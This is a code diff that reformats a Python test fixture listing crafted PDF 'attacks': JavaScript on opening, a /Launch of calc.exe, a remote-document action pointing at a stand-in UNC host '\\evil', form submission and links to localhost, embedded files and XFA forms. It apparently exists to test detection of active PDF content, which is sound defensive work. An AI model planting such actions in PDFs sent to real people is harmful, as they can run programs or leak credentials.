@@ -55,7 +55,9 @@ def _link(writer: IncrementalPdfFileWriter) -> None:
     page = first_page(writer)
     action = dictionary(S=pdf_name("/URI"), URI=_text("http://127.0.0.1:9/"))
     box = numbers(0, 0, 595, 419)
-    page["/Annots"].append(writer.add_object(dictionary(Type=pdf_name("/Annot"), Subtype=pdf_name("/Link"), Rect=box, A=action)))
+    page["/Annots"].append(
+        writer.add_object(dictionary(Type=pdf_name("/Annot"), Subtype=pdf_name("/Link"), Rect=box, A=action))
+    )
     writer.update_container(page["/Annots"])
 
 
@@ -64,12 +66,24 @@ def _active(name: str, about: str, change: Change) -> Attack:
 
 
 ATTACKS = (
-    _active("script", "JavaScript when the file is opened", _on_opening(S=pdf_name("/JavaScript"), JS=_text("app.alert(1)"))),
+    _active(
+        "script",
+        "JavaScript when the file is opened",
+        _on_opening(S=pdf_name("/JavaScript"), JS=_text("app.alert(1)")),
+    ),
     _active("script-page", "JavaScript when the page is shown", _on_page),
     _active("script-named", "JavaScript in the name tree", _named_script),
     _active("launch", "a programme to launch", _on_opening(S=pdf_name("/Launch"), F=_text("calc.exe"))),
-    _active("go-elsewhere", "another document to open", _on_opening(S=pdf_name("/GoToR"), F=_text("\\\\evil\\a.pdf"))),
-    _active("submit", "a form that is sent away", _on_opening(S=pdf_name("/SubmitForm"), F=_text("http://127.0.0.1:9/"))),
+    _active(
+        "go-elsewhere",
+        "another document to open",
+        _on_opening(S=pdf_name("/GoToR"), F=_text("\\\\evil\\a.pdf")),
+    ),
+    _active(
+        "submit",
+        "a form that is sent away",
+        _on_opening(S=pdf_name("/SubmitForm"), F=_text("http://127.0.0.1:9/")),
+    ),
     _active("uri", "a link over the whole page", _link),
     _active("embedded", "a programme attached", _embedded),
     _active("xfa", "a form that is drawn anew", _dynamic_form),
